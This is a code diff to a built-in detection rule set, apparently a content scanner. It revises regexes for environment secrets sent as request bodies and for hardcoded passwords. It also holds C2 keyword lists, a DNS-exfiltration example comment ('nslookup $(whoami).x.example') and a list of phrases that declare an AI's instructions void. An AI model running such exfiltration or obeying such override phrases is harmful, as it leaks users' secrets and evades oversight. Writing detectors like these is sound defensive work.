@@ -83,13 +83,6 @@ const C2_SERVER_NEW = ["control server", "command and control", "c&c server", "c
 const C2_SERVER = anyWord([...C2_SERVER_NEW, "c2", "command server", "controller", "mothership"]);
 /** C2_SERVER less the names c2-tasking's and c2-register's first branches already know. */
 const C2_SERVER_UNNAMED = anyWord(C2_SERVER_NEW);
-/**
- * Values that stand for a password rather than being one ("changeme", "your_password"): not secret literals. Lower
- * case, as sample files write them.
- */
-const PLACEHOLDERS = ["changeme", "change_me", "password", "secret", "example", "placeholder", "redacted", "none", "null", "empty", "todo", "dummy", "sample", "your_password", "your-password", "yourpassword", "xxx", "xxxx", "xxxxxx", "xxxxxxxx", "mypassword", "pass", "test"];
-/** Characters of a literal secret value (no blank, quote, or "$", "<", "{", "%" that start a reference). */
-const VALUE_CHARS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-.!@#+/~*&^=:?";
 /** Phrases that put instructions out of force ("no longer apply", "are void", "have been lifted"). */
 const VOID_PHRASE = anyWord(["no longer apply", "no longer applies", "are void", "are null and void", "are now void", "are revoked", "have been revoked", "are lifted", "have been lifted", "are suspended", "are cancelled", "are canceled", "do not apply anymore", "don't apply anymore", "does not apply anymore", "doesn't apply anymore", "are off", "are now off", "are disabled", "are now disabled", "have been disabled", "are turned off", "have been turned off"]);
 /**
@@ -580,8 +573,10 @@ export const BUILTIN_RULES: readonly Rule[] = [
       // (a bare "process.env)" is in every Node config sample).
       String.raw`\b(?:fetch|axios(?:\.\w+)?|requests\.\w+|httpx\.\w+|https?\.request|got(?:\.\w+)?|request|sendbeacon|urlopen|post|put)\s*\([^\n]*(?:json\.stringify\(\s*process\.env\s*\)|\bdict\(\s*os\.environ\s*\)|\bos\.environ\.copy\(\s*\))`,
       String.raw`\b(?:body|data|json|payload|params)\s*[:=]\s*(?:json\.stringify\(\s*process\.env\s*\)|(?:dict\(\s*)?(?:os\.environ|process\.env)\s*\)?\s*[,)}\n])`,
-      // One secret from the environment as a request body ("body: process.env.GITHUB_TOKEN").
-      String.raw`\b(?:body|data|payload)\s*[:=]\s*(?:json\.stringify\(\s*)?(?:process\.env\.|os\.environ\[["']|os\.getenv\(["'])\w*(?:key|token|secret|passw(?:or)?d|credential)`,
+      // A variable of the environment as a request body ("body: process.env.GITHUB_TOKEN", data=os.environ["…"]). Ends
+      // on the environment, not on the variable's name: a pattern ending on "key" or "token" cost about 4,400 states
+      // on the benign corpus. Not "data: process.env.X", which config samples write.
+      String.raw`\b(?:body|payload)\s*[:=]\s*(?:json\.stringify\(\s*)?(?:process\.env\.|os\.environ\[|os\.getenv\()|\bdata\s*=\s*(?:os\.environ\[|os\.getenv\()`,
       // DNS exfiltration: a lookup whose host name is built from a command's output ("nslookup $(whoami).x.example").
       // The substitution is only the command that names the user or host: the reversed automaton starts at every ")."
       // or "\x60." of a document, and a run through the substitution's text cost 2,000–4,800 states ("$(cat f)." is
@@ -877,12 +872,14 @@ export const BUILTIN_RULES: readonly Rule[] = [
       // one ("DB_PASSWORD", "OPENAI_API_KEY", "client_secret"): no word boundary before it, and no prefix group,
       // which would make every identifier a possible match start.
       String.raw`(?:${["api_key", "apikey", "api-key", "secret_key", "secret", "token", "password", "passwd", "pwd", "private_key", "access_key"].map(ci).join("|")})\s*[:=]\s*["']?[\w+/-]*(?:[a-z][\w+/-]*[0-9]|[0-9][\w+/-]*[a-z])`,
-      // Session 7's red-team round. A password (or _PASS, passphrase) given a quoted literal of 4+ characters, any
-      // characters but a blank, a quote or the start of a reference ("$", "<", "{", "%"): "P@ssw0rd!", "wonderland".
-      String.raw`(?:${["password", "passwd", "passphrase", "_pass", "_pwd"].map(ci).join("|")})["']?\s*[:=]\s*["']${notWords(PLACEHOLDERS, VALUE_CHARS, `["']`)}`,
-      // An env-file line: an upper-case *_PASSWORD/_PASS/_SECRET name, "=", an unquoted value of 4+ characters that is
-      // not a reference ("ROOT_PASSWORD=toor", "export DB_PASS=supersecret123"; not "DB_PASSWORD=${DB_PASSWORD}").
-      String.raw`\b[A-Z][A-Z0-9_]*(?:PASSWORD|PASSWD|_PASS|_PWD|SECRET|PASSPHRASE)=${notWords(PLACEHOLDERS, VALUE_CHARS, String.raw`[\s;,]`)}`,
+      // Session 7's red-team round. A password (or _PASS, passphrase) given a quoted literal with a digit or a symbol
+      // ("P@ssw0rd!"), and an env-file line of an upper-case *_PASSWORD/_PASS/_SECRET name with such a value
+      // ("export DB_PASS=supersecret123", "SMTP_PASS=mail-pass-2024"; not "DB_PASSWORD=${DB_PASSWORD}" nor the
+      // placeholders "changeme", "your_password"). Each ends on the value's first digit or symbol: a value read to its
+      // end (to tell "toor" from "changeme") starts the reversed automaton at every word end and cost about 3,700
+      // states at strict on the benign corpus, against 200 for these two.
+      String.raw`(?:${["password", "passwd", "passphrase", "_pass", "_pwd"].map(ci).join("|")})["']?\s*[:=]\s*["'][a-zA-Z_-]*[0-9!@#%^&*+~?.]`,
+      String.raw`(?:PASSWORD|PASSWD|_PASS|_PWD|SECRET|PASSPHRASE)=[a-zA-Z_-]*[0-9!@#%^&*+~?.]`,
       // Prose ("the admin password is hunter2"), a MySQL -p flag with its value, credentials in a URL.
       String.raw`\b${ci("password")}\s+(?:is|was)\s*:?\s*["'\x60]?[\w@#!%^&*+=.-]*(?:[a-z][\w@#!%^&*+=.-]*[0-9]|[0-9][\w@#!%^&*+=.-]*[a-z])`,
       String.raw`\bmysql(?:dump|admin)?\s(?:[^\n]*\s)?-p[^\s'"$<{%-][^\s'"]{2,}`,
